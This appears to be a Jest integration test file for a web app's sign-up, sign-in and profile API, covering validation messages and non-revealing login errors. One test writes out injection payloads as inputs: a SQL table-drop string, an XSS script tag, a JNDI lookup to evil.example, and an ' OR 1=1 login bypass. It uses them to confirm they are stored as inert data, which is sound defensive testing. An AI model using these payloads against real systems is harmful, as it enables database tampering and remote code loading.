import { createVerifiedUser, newUserInput } from '../support/factories';
import { startTestSystem, TestSystem } from '../support/test-system';
import { bearer, expectErrorShape, login, registerUser, settleMail, verifyOtp, writeSnapshot } from '../api/api-helpers';

jest.setTimeout(60_000);

describe('sign-up, sign-in and profile', () => {
  let sys: TestSystem;
  beforeAll(async () => {
    sys = await startTestSystem();
  });
  afterAll(async () => {
    await sys.close();
  });

  const register = (body: object) => sys.http.post('/api/auth/register/').send(body);

  it('refuses to sign in an unverified account with a message about verification (403)', async () => {
    const user = await registerUser(sys);
    const res = await login(sys, user.email, user.password);
    expectErrorShape(res, 403);
    expect(res.body.message).toMatch(/verif/i);
    expect(res.body.data).toBeUndefined();
  });

  it('gives a wrong password and an unknown email the identical 401 answer', async () => {
    const user = await createVerifiedUser(sys);
    const unverified = await registerUser(sys);
    const wrongPassword = await login(sys, user.email, 'not-the-password');
    const unknownEmail = await login(sys, `nobody_${Date.now()}@example.com`, user.password);
    // An unverified account with a wrong password does not reveal that it exists either.
    const unverifiedWrong = await login(sys, unverified.email, 'not-the-password');

    expectErrorShape(wrongPassword, 401);
    expect(wrongPassword.body).toEqual({ message: 'Invalid email or password.', detail: 'Invalid email or password.' });
    for (const other of [unknownEmail, unverifiedWrong]) {
      expect({ status: other.status, body: other.body }).toEqual({ status: wrongPassword.status, body: wrongPassword.body });
    }
  });

  it('signs in with the email in any case and answers a token and the profile', async () => {
    const user = await createVerifiedUser(sys);
    const res = await login(sys, `  ${user.email.toUpperCase()} `, user.password).expect(200);
    expect(res.body.data.tokens.access).toMatch(/^ey/);
    expect(res.body.data.user).toEqual({
      id: user.id,
      username: user.username,
      email: user.email,
      first_name: 'Alex',
      last_name: 'Morgan',
      is_admin: false,
      completed_onboarding: false,
    });
  });

  it('refuses a username taken by another account, also when only the case differs, and writes nothing', async () => {
    const taken = await registerUser(sys);
    await settleMail(sys);
    const fresh = newUserInput();
    const mailsBefore = sys.smtp.messages.length;
    const before = await writeSnapshot(sys);

    // Usernames are public (leaderboards), so saying one is taken tells nothing about emails.
    for (const username of [taken.username, taken.username.toUpperCase()]) {
      const body = { ...fresh, username };
      const res = await register({ ...body, password_confirm: body.password });
      expectErrorShape(res, 400);
      expect({ sent: body, errors: res.body.errors }).toEqual({ sent: body, errors: { username: ['A user with that username already exists.'] } });
    }
    await settleMail(sys);
    expect(await writeSnapshot(sys)).toEqual(before);
    expect(sys.smtp.messages.length).toBe(mailsBefore);

    // The same payload with its own name and email is fine.
    await register({ ...fresh, password_confirm: fresh.password }).expect(201);
  });

  it('refuses a sign-up whose password confirmation differs, and writes nothing', async () => {
    const input = newUserInput();
    const before = await writeSnapshot(sys);
    const res = await register({ ...input, password_confirm: `${input.password}x` });
    expectErrorShape(res, 400);
    expect(res.body.errors).toEqual({ password_confirm: ['Passwords do not match.'] });
    expect(await writeSnapshot(sys)).toEqual(before);
  });

  it('says a missing field is required (not that it is too long), and a mistyped one what it must be', async () => {
    const cases: [string, 'post' | 'put', object, Record<string, string[]>][] = [
      ['/api/auth/login/', 'post', {}, { email: ['Email is required.'], password: ['Password is required.'] }],
      [
        '/api/auth/register/',
        'post',
        {},
        {
          username: ['Username is required.'],
          email: ['Enter a valid email address.'],
          first_name: ['First name is required.'],
          last_name: ['Last name is required.'],
          password: ['Password is required.'],
          password_confirm: ['Password confirmation is required.'],
        },
      ],
      [
        '/api/auth/register/',
        'post',
        { ...newUserInput({ first_name: 7 as unknown as string, username: 'ab' }), password_confirm: 'correct-horse-1' },
        { username: ['Username must be 3 to 30 characters long.'], first_name: ['First name must be text.'] },
      ],
      [
        '/api/auth/reset-password/',
        'post',
        { email: 'a@example.com' },
        { otp_code: ['Please enter the 6-digit code from the email.'], new_password: ['New password is required.'], new_password_confirm: ['Password confirmation is required.'] },
      ],
      ['/api/auth/forgot-password/', 'post', { email: 'x'.repeat(300) }, { email: ['Email is too long.'] }],
    ];
    for (const [path, method, body, errors] of cases) {
      const res = await sys.http[method](path).send(body);
      expectErrorShape(res, 400);
      expect({ path, body, errors: res.body.errors }).toEqual({ path, body, errors });
      expect(res.body.message).toBe(Object.values(errors)[0][0]);
    }
    const user = await createVerifiedUser(sys);
    const change = await sys.http.post('/api/auth/change-password/').set(bearer(user.token)).send({});
    expect(change.body.errors).toEqual({
      current_password: ['Current password is required.'],
      new_password: ['New password is required.'],
      new_password_confirm: ['Password confirmation is required.'],
    });
    const profile = await sys.http.put('/api/auth/profile/').set(bearer(user.token)).send({ last_name: ['x'] });
    expect(profile.body.errors).toEqual({ first_name: ['First name is required.'], last_name: ['Last name must be text.'] });
  });

  it('stores injection-looking names and passwords verbatim, as plain data', async () => {
    const input = newUserInput({
      first_name: `Robert'); DROP TABLE users;--`,
      last_name: '<script>alert(1)</script>',
      password: '${jndi:ldap://evil.example/a} OR 1=1 --',
    });
    await register({ ...input, password_confirm: input.password }).expect(201);
    await verifyOtp(sys, input.email, await sys.smtp.waitForCode(input.email)).expect(200);
    const res = await login(sys, input.email, input.password).expect(200);
    expect(res.body.data.user).toMatchObject({ first_name: input.first_name, last_name: input.last_name });
    expectErrorShape(await login(sys, input.email, `' OR 1=1 --`), 401);
    const stored: { first_name: string; last_name: string }[] = await sys.db.query(`SELECT first_name, last_name FROM users WHERE email = $1`, [input.email]);
    expect(stored).toEqual([{ first_name: input.first_name, last_name: input.last_name }]);
  });

  it('shows the profile and updates first and last name (trimmed), leaving the rest alone', async () => {
    const user = await createVerifiedUser(sys);
    const auth = bearer(user.token);
    const shown = await sys.http.get('/api/auth/profile/').set(auth).expect(200);
    expect(shown.body.data).toEqual({
      id: user.id,
      username: user.username,
      email: user.email,
      first_name: 'Alex',
      last_name: 'Morgan',
      is_admin: false,
      completed_onboarding: false,
    });

    const updated = await sys.http.put('/api/auth/profile/').set(auth).send({ first_name: '  Zoë ', last_name: "O'Neill-Ångström" }).expect(200);
    expect(updated.body).toEqual({ message: 'Profile updated successfully!', data: { ...shown.body.data, first_name: 'Zoë', last_name: "O'Neill-Ångström" } });
    const again = await sys.http.get('/api/auth/profile/').set(auth).expect(200);
    expect(again.body.data).toEqual(updated.body.data);

    // The token and password are untouched by a profile update.
    await login(sys, user.email, user.password).expect(200);

    const blank = await sys.http.put('/api/auth/profile/').set(auth).send({ first_name: '   ', last_name: 'X' });
    expectErrorShape(blank, 400);
    expect(blank.body.errors).toEqual({ first_name: ['First name is required.'] });
  });
});
